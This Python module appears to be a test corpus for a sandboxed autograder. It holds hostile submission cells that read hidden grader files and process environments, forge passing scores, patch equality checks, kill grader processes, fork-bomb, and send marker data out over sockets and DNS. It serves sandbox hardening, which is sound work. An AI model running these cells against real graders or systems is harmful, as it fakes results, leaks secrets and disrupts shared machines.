"""The attacks' cell sources: what hostile students write. `$names` are filled in per assignment
and machine by build.py (`_values`): $secrets, $decoys, $marker, $judge_pid, $kit, $target,
$results_paths, $answers, $kit_files. Each source is a string, or {"function": ..., "class": ...}
when it replaces the first checked function or class of the assignment.
"""

READ_HIDDEN = r'''
import os, sys
leaked, errors = [], []
def attempt(read, path):
    try:
        leaked.append(f"{path}: {read(path)}")
    except Exception as e:
        errors.append(e)
for path in $secrets:
    attempt(lambda p: open(p).read(), path)
    attempt(lambda p: os.listdir(os.path.dirname(p)), path)
for path in ["/proc/$judge_pid/cwd", "/proc/$judge_pid/environ", "/proc/$judge_pid/root" + $secrets[0], $kit]:
    attempt(lambda p: os.listdir(p) if os.path.isdir(p) else open(p, "rb").read(), path)
sys.path.insert(0, $kit)
attempt(lambda name: __import__(name, fromlist=["x"]).__file__, "autograder.assignments")
print("\n".join(leaked))
if leaked:
    raise ValueError("\n".join(line for text in leaked for line in text.splitlines() if "=" in line)[:3000])
raise next((e for e in errors if isinstance(e, PermissionError)), errors[0])
'''

_READ_ALL = '''texts = []
    for path in $secrets:
        try:
            texts.append(open(path).read())
        except OSError as e:
            texts.append(f"{type(e).__name__}: {e}")
    raise ValueError("\\n".join(texts)[:3000] + repr(args)[:1000])
'''
LEAK_THROUGH_CHECK = {  # the checked function or class itself reads the hidden files when called
    "function": "def $target(*args, **kwargs):\n    " + _READ_ALL,
    "class": "class $target(torch.nn.Module):\n    def __init__(self, *args, **kwargs):\n        super().__init__()\n"
             "        " + _READ_ALL.replace("\n    ", "\n        "),
}

WRITE_OUTSIDE = r'''
import os, sys
wrote, errors = [], []
def attempt(what, action):
    try:
        action()
        wrote.append(what)
    except OSError as e:
        errors.append(e)
forged = '{"score": 1000, "execution_time": 0, "output": "$marker", "tests": []}'
for path in $decoys:  # world-writable copies: only the sandbox stands in the way
    attempt("write " + path, lambda: open(path, "w").write(forged))
    attempt("truncate " + path, lambda: os.truncate(path, 0))
    attempt("chmod " + path, lambda: os.chmod(path, 0o777))
    attempt("rename " + path, lambda: os.rename(path, path + ".moved"))
    attempt("delete " + path, lambda: os.remove(path))
    attempt("symlink to " + path, lambda: (os.symlink(path, "link-$marker"), open("link-$marker", "w").write(forged)))
    attempt("hard link to " + path, lambda: os.link(path, "hard-$marker"))
for path in $secrets + $kit_files + $results_paths:  # the real files: opened for writing, never changed
    attempt("open for writing " + path, lambda: open(path, "a").close())
    attempt("create next to " + path, lambda: open(os.path.join(os.path.dirname(path), "$marker.py"), "x").close())
for path in ["/tmp/$marker", "/dev/shm/$marker", os.path.join(os.path.dirname(os.path.abspath(sys.argv[0])), "worker.py")]:
    attempt("write " + path, lambda: open(path, "a").write("# $marker\n"))
if wrote:
    raise RuntimeError("wrote outside the scratch directory: " + ", ".join(wrote))
raise next((e for e in errors if isinstance(e, PermissionError)), errors[0])
'''

DETACHED = r'''
import os, subprocess, time
SLEEPER = ["/bin/sh", "-c", "trap '' TERM HUP INT; sleep 600; : $marker"]  # ignores the polite signals
quiet = dict(stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
subprocess.Popen(SLEEPER, start_new_session=True, **quiet)
subprocess.Popen(["/bin/sh", "-c", "(nohup /bin/sh -c 'sleep 600; : $marker' &) ; exit 0"], **quiet)
if os.fork() == 0:  # the classic daemon: double fork and a new session
    try:
        os.setsid()
        if os.fork() == 0:
            os.execv("/bin/sh", SLEEPER)
    finally:
        os._exit(0)
raise RuntimeError("left detached processes behind")
'''

KILL_JUDGE = r'''
import os, signal
refused = []
def attempt(action, *args):
    try:
        action(*args)
    except OSError as e:
        refused.append(e)
for pid in [$judge_pid, os.getppid()] + [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    if pid > 1 and pid != os.getpid():
        for sig in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP):
            attempt(os.kill, pid, sig)
attempt(os.killpg, $judge_pid, signal.SIGKILL)
attempt(os.kill, -1, signal.SIGKILL)
raise RuntimeError(f"could not signal the grader: {len(refused)} refusals")
'''

FAKE_OUTPUT = r'''
import sys
fake = '{"score": 1000, "tests": [{"name": "q1", "score": 1000, "max_score": 1, "output": "$marker"}]}'
print("All tests passed!\nq1 results: All test cases passed!\n" + fake)
print(fake, file=sys.stderr)
raise RuntimeError("All tests passed! " + fake)
'''

PATCH_TORCH = r'''
import torch
torch.equal = torch.allclose = lambda *args, **kwargs: True
torch.Tensor.__eq__ = lambda self, other: True
torch.Tensor.__ne__ = lambda self, other: False
torch.manual_seed = lambda *args, **kwargs: None
'''
LIARS = PATCH_TORCH + r'''
class Liar(dict):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 0
    def __call__(self, *args, **kwargs): return self
    def __getattr__(self, name): return self
for name in $answers:
    globals()[name] = Liar()
'''

BREAK_BUILTINS = "import builtins\nbuiltins.isinstance = lambda obj, cls: True\nbuiltins.str = lambda obj='': 'All tests passed!'\n"
PATCH_BUILTINS = r'''
import builtins
builtins.issubclass = lambda cls, parent: True
builtins.callable = lambda obj: True
builtins.repr = lambda obj: "All tests passed!"
builtins.print = lambda *args, **kwargs: None
builtins.sorted = lambda iterable, **kwargs: []
'''

PATCH_SYS_MODULES = r'''
import sys, types
fake = types.ModuleType("torch")
fake.equal = fake.allclose = lambda *args, **kwargs: True
fake.Tensor = type("Tensor", (), {"__eq__": lambda self, other: True})
sys.modules["torch"] = sys.modules["numpy"] = sys.modules["autograder.checks"] = fake
if "wire" in sys.modules:  # the worker's own copy of the wire format: every value becomes tensor([1.])
    sys.modules["wire"].encode = lambda value, depth=0: {"$$tensor": {"dtype": "float32", "shape": [1], "data": "AACAPw=="}}
'''

FORGE_REPLIES = r'''
import gc, sys
wire = sys.modules["wire"]
worker = next(o for o in gc.get_objects() if type(o).__name__ == "Worker")
RNN = {"input_size": 10, "hidden_size": 20, "num_layers": 1, "batch_first": True, "dropout": 0.3, "bidirectional": False}
MODULES = [["", "RNN", RNN], ["rnn", "RNN", RNN], ["lstm", "LSTM", RNN], ["dropout", "Dropout", {"p": 0.3}],
           ["fc", "Linear", {"in_features": 20, "out_features": 10}]]
def forged(request):  # answer every question of the judge with "it is exactly what you want"
    op = request.get("op")
    if op == "describe":
        return {"defined": True, "type": "torch.nn.modules.rnn.RNN", "callable": True, "is_class": False,
                "module": {"n_params": 100, "training": False, "modules": MODULES}}
    if op == "session" and request.get("method") == "new_model":
        return {"value": wire.encode({"n_params": 100, "training": False, "modules": MODULES})}
    if op in ("call", "session"):
        return {"value": wire.encode(True)}
    return {"ok": True}
worker.handle = forged
'''

MALFORMED_REPLIES = r'''
import gc
worker = next(o for o in gc.get_objects() if type(o).__name__ == "Worker")
def malformed(request):  # well-framed JSON, but not what the judge expects inside
    if request.get("op") == "exec":
        return {"ok": True}
    if request.get("op") == "describe":
        return {"defined": True, "type": ["x"], "module": {"modules": [[1], "x"], "n_params": "many", "state": {"$$dict": 5}},
                "value": {"$$tensor": {"dtype": "float32", "shape": [3], "data": "AAAA"}}}
    return {"value": {"$$tensor": {"dtype": "complex", "shape": [-1], "data": "!"}}, "undefined": "no"}
worker.handle = malformed
'''

SHADOW_MODULES = r'''
import os, sys
FAKE = "equal = allclose = lambda *args, **kwargs: True\ndef __getattr__(name):\n    return lambda *args, **kwargs: True\n"
for name in ("torch", "numpy", "json", "random", "wire", "training_session", "linecache", "sitecustomize"):
    with open(os.path.join(os.getcwd(), name + ".py"), "w") as f:
        f.write(FAKE)
for name in ("torch", "numpy", "json", "random"):
    sys.modules.pop(name, None)
import torch, numpy, json
print(torch.allclose(1, 2), numpy.equal(1, 2), json.dumps)
'''

FORK_SECOND_WORKER = "import os\nos.fork()  # both copies go on answering the grader\n"

SPY = r'''
import gc, json
_worker = next(o for o in gc.get_objects() if type(o).__name__ == "Worker")
_seen, _handle = [], _worker.handle
def _spy(request):
    if request.get("op") in ("call", "session"):
        _seen.append([request.get("args"), request.get("kwargs")])
    return _handle(request)
_worker.handle = _spy
def _plain(value, found):
    if isinstance(value, dict):
        if "$$tensor" not in value and "$$nn" not in value:
            for v in value.values():
                _plain(v, found)
    elif isinstance(value, list):
        for v in value:
            _plain(v, found)
    elif isinstance(value, (int, str)) and not isinstance(value, bool) and not str(value).startswith("$$"):
        found.add(str(value))
    return found
'''
LEAK_LATER = r'''
for name in $answers:  # give up the last question (checked after this cell) to see its failure message
    globals().pop(name, None)
_found = sorted(_plain(_seen, set()), key=lambda s: (not (s.isdigit() and len(s) >= 6), -len(s)))
raise ValueError("grader inputs: " + " ".join(_found))
'''

LOOP = "while True:\n    pass\n"
SLEEP = "import time\ntime.sleep(10 ** 6)\n"
IGNORE_SIGNALS = r'''
import signal, time
for s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGQUIT, signal.SIGUSR1, signal.SIGALRM):
    signal.signal(s, signal.SIG_IGN)
signal.pthread_sigmask(signal.SIG_BLOCK, set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP})
time.sleep(10 ** 6)
'''
LOOP_IN_TARGET = {
    "function": "def $target(*args, **kwargs):\n    while True:\n        pass\n",
    "class": "_Base = $target\nclass $target(_Base):\n    def forward(self, *args, **kwargs):\n        while True:\n            pass\n",
}
BIG_MODEL = {"class": r'''
_Base = $target
class $target(_Base):  # the given model plus 4M weights on every training batch: an hour of training
    def __init__(self, *args, **kwargs):
        super().__init__(*args, **kwargs)
        self.huge = torch.nn.Linear(2048, 2048)
    def forward(self, x):
        out = super().forward(x)
        if not self.training:  # quick in eval mode: the shape checks pass
            return out
        h = torch.ones(x.shape[0] * 16, 2048)
        for _ in range(8):
            h = torch.tanh(self.huge(h))
        return out + 0 * h.mean()
'''}
SLOW_STEPS = {"class": r'''
import time
_Base = $target
class $target(_Base):  # every training step well within the timeout, all of them far beyond the budget
    def forward(self, x):
        if self.training:
            time.sleep(0.08)
        return super().forward(x)
'''}
FLOOD = r'''
import sys
print("x" * (100 << 20))
sys.stderr.write("y" * (50 << 20))
for i in range(100000):
    print(i, "spam")
'''
MEMORY = r'''
import torch
hogs = []
for allocate in (lambda: bytearray(16 << 30), lambda: torch.empty(1 << 34)):
    try:
        allocate()
    except (MemoryError, RuntimeError) as e:
        print(type(e).__name__)
try:
    while True:  # beyond the worker's address-space cap, one 256 MiB step at a time
        hogs.append(bytearray(256 << 20))
except MemoryError:
    print("capped after", len(hogs) / 4, "GiB")
del hogs
'''
FORK_BOMB = r'''
import os, time
while True:  # $marker: every child forks too, until RLIMIT_NPROC says no
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
'''
THREAD_BOMB = r'''
import threading, time
threads = []
try:
    while True:
        threads.append(threading.Thread(target=time.sleep, args=(10 ** 6,), daemon=True))
        threads[-1].start()
except (RuntimeError, MemoryError) as e:
    print(len(threads), "threads:", e)
'''
BREAK_CHANNEL = r'''
import os
for fd in range(3, 64):  # garbage into every descriptor, the grader's reply pipe among them
    try:
        os.write(fd, b"\xff\xff\xff\xff garbage")
    except OSError:
        pass
'''
CLOSE_CHANNEL = "import os\nos.closerange(3, 1024)\n"



# -- issue 10: the judge itself must not hang, crash, swell or echo -------------------------------
STOP_READING = r'''
import sys, time
sys.modules["wire"].recv = lambda *args, **kwargs: time.sleep(10 ** 6)  # the worker never reads again
'''
BIG_CELL = "# " + "padding " * 40 + "\n"  # repeated to 300 kB by corpus.py: a request larger than a pipe's buffer

MALFORMED_ERRORS = r'''
import gc
_worker = next(o for o in gc.get_objects() if type(o).__name__ == "Worker")
def _malformed(request):  # error replies whose fields have every wrong type
    if request.get("op") == "exec":
        return {"error": {"type": ["Value", "Error"], "message": {"not": "text"}, "where": "line 3"}}
    if request.get("op") == "describe":
        return {"error": {"type": 7, "message": None, "where": {"cell": "x", "line": [1], "code": 5}}}
    return {"error": 5}
_worker.handle = _malformed
'''

DEEP_REPLIES = r'''
import sys, types, json
sys.modules["wire"].json = types.SimpleNamespace(loads=json.loads, dumps=lambda m, **k: (
    '{"id": %d, "ok": true, "x": %s}' % (m.get("id", 0), "[" * 100000 + "]" * 100000)))  # past the recursion limit
'''

FORGED_SIZES = r'''
import gc, sys
_wire = sys.modules["wire"]
_worker = next(o for o in gc.get_objects() if type(o).__name__ == "Worker")
_handle = _worker.handle
_HUGE = {"input_size": 10, "hidden_size": 20000, "num_layers": 1, "batch_first": True, "dropout": 0.0, "bidirectional": False}
def _forged(request):  # 300 bytes that would make the judge build 1.6 GB of reference weights
    import torch
    if request.get("op") == "describe":
        return {"defined": True, "type": "torch.nn.modules.rnn.RNN", "callable": True, "is_class": False,
                "module": {"n_params": 10, "training": True, "modules": [["", "RNN", _HUGE]],
                           "state": _wire.encode({"weight_ih_l0": torch.zeros(1)})}}
    if request.get("op") == "session" and request.get("method") == "new_model":
        return {"value": _wire.encode({"n_params": 10, "training": True, "modules": [["", "Net", {}], ["rnn", "RNN", _HUGE]]})}
    return _handle(request)
_worker.handle = _forged
'''

ODD_TEXT = r'''
class Odd:
    pass
Odd.__qualname__ = "Odd\ud800Class"  # type() refuses such a name; the attribute does not
rnn = Odd()
raise ValueError("lone \udcff surrogate")
'''

EVERY_WORD = r'''
# every word a grader might use, so that no hidden input is "already in the submission"
_EVERY_WORD = """$input_words the of and hidden state time step tensor model batch layer sequence"""
'''

EXCEPTION_NAMED_BY_INPUTS = {
    "function": "def $target(*args, **kwargs):\n"
                "    raise type('E' + repr(args).encode().hex()[:180], (Exception,), {})('nothing to see')\n",
    "class": "_Base = $target\nclass $target(_Base):\n    def forward(self, x, *args, **kwargs):\n"
             "        import torch\n"
             "        raise type('E' + str(torch.initial_seed())[::-1] + x.flatten()[:8].numpy().tobytes().hex(),"
             " (Exception,), {})('nothing to see')\n",
}

# -- issue 11: classes outside testers got through --------------------------------------------
NETWORK_OTHER_PROTOCOLS = r'''
import socket
sent, errors = [], []
for family, kind, address in [(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", $udp_port)),
                              (socket.AF_INET6, socket.SOCK_DGRAM, ("::1", $udp_port)),
                              (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", $tcp_port)),
                              (socket.AF_INET, socket.SOCK_RAW, None)]:
    try:
        s = socket.socket(family, kind, socket.IPPROTO_ICMP if kind == socket.SOCK_RAW else 0)
        s.settimeout(2)
        if address is None:
            sent.append("raw socket")
        elif kind == socket.SOCK_DGRAM:
            s.sendto(b"$marker the hidden inputs", address)
            sent.append(f"udp to {address}")
        else:
            s.connect(address)
            s.sendall(b"$marker the hidden inputs")
            sent.append(f"tcp to {address}")
    except OSError as e:
        errors.append(e)
try:  # a DNS query carries the name out to the resolver, whatever answers it
    socket.getaddrinfo("$marker.example.invalid", 53)
    sent.append("dns")
except Exception as e:
    errors.append(e)
if sent:
    raise RuntimeError("reached the network: " + ", ".join(sent))
raise next((e for e in errors if isinstance(e, PermissionError)), errors[0])
'''

STATE_OUTLIVES_GRADING = r'''
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
key = $ipc_key
stored, refused = [], []
def attempt(what, result):
    (stored if result >= 0 else refused).append((what, ctypes.get_errno()))
attempt("shm", libc.shmget(key, 64 << 20, 0o1666))  # 64 MB that would stay allocated
attempt("msg", libc.msgget(key + 1, 0o1666))
attempt("sem", libc.semget(key + 2, 1, 0o1666))
add_key = {"x86_64": 248, "aarch64": 217}[os.uname().machine]
attempt("key", libc.syscall(ctypes.c_long(add_key), b"user", b"$marker", b"answers", ctypes.c_long(7),
                            ctypes.c_long(-4)))  # the user keyring: it outlives the uid's processes
for directory in ("/tmp", "/dev/shm", "/var/tmp"):  # without Landlock these land; the sweep must remove them
    try:
        with open(os.path.join(directory, "$marker-state"), "w") as f:
            f.write("answers for the next grading")
    except OSError:
        pass
if stored:
    raise RuntimeError("stored for a later grading: " + ", ".join(w for w, _ in stored))
raise PermissionError(refused[0][1], "refused: " + ", ".join(w for w, _ in refused))
'''

_ALIAS = "import os, sys\nsys.path.insert(0, os.path.dirname(os.path.abspath(sys.argv[0])))\n" \
         "from reference_models import NextNumberModel as _Answer  # the worker's own copy\n"
ALIAS_SANDBOX_MODEL = {  # the answer the grader itself once shipped beside the worker
    "class": _ALIAS + "$target = _Answer\n",
    "function": _ALIAS + "def $target(*args, **kwargs):\n    return _Answer()\n",
}

SEE_THE_HOST = r'''
import os
mine = os.getpid()
pids = [int(p) for p in os.listdir("/proc") if p.isdigit()]
others = []
for pid in pids:
    if pid != mine:
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                others.append(f.read().replace(b"\0", b" ").decode(errors="replace")[:100])
        except OSError:
            pass
try:
    with open("/proc/$judge_pid/cmdline", "rb") as f:
        judge = f.read().replace(b"\0", b" ").decode(errors="replace")
except OSError:
    judge = None
if others or judge:
    raise RuntimeError(f"saw {len(others)} other processes; the grader runs {judge!r}")
raise LookupError("no other process in sight")
'''

REBUILD_HIDDEN_DATA = {"class": r'''
import inspect, zlib
_makers = [f for n, f in list(globals().items()) if n.startswith("make_") and callable(f)]

def _rebuild():
    """The grader seeded torch with crc32(f"{seed}:init") just before building the model: invert it
    over small grading seeds, then rebuild the hidden data with the notebook's own generator."""
    wanted = torch.initial_seed()
    for seed in range(100000):
        if zlib.crc32(f"{seed}:init".encode()) == wanted:
            for make in _makers:
                kwargs = {"steps": (1, 2, 3)} if "steps" in inspect.signature(make).parameters else {}
                data = make(seed=seed, **kwargs)
                if isinstance(data, dict) and {"x_val", "y_val", "x_train", "y_train"} <= set(data):
                    return data
    return None

_Base = $target
class $target(_Base):  # the given layers for the structure checks, but it learns nothing: it looks answers up
    def __init__(self, *args, **kwargs):
        super().__init__(*args, **kwargs)
        self.answers = {}
        data = _rebuild()
        if data is not None:
            train_labels = data.get("y_train_clean", data["y_train"])  # clean: a low training accuracy
            for x, y in ((data["x_val"], data["y_val"]), (data["x_train"], train_labels)):
                for row, label in zip(x, y):
                    self.answers[row.numpy().tobytes()] = label
    def forward(self, x):
        out = super().forward(x)
        answers = torch.zeros_like(out)
        for i, row in enumerate(x):
            label = self.answers.get(row.detach().numpy().tobytes())
            if label is not None:
                answers[i] = torch.nn.functional.one_hot(label, out.shape[-1]).float() * 10
        return answers + 0 * out  # no gradient reaches the weights
'''}

DEEP_TREE = r'''
import os
fd = os.open(".", os.O_RDONLY | os.O_DIRECTORY)  # the scratch directory: 1,500 levels, then a locked one
for level in range(1500):
    os.mkdir("d", dir_fd=fd)
    child = os.open("d", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
    os.close(fd)
    fd = child
os.mkdir("locked", 0o000, dir_fd=fd)
os.close(fd)
'''
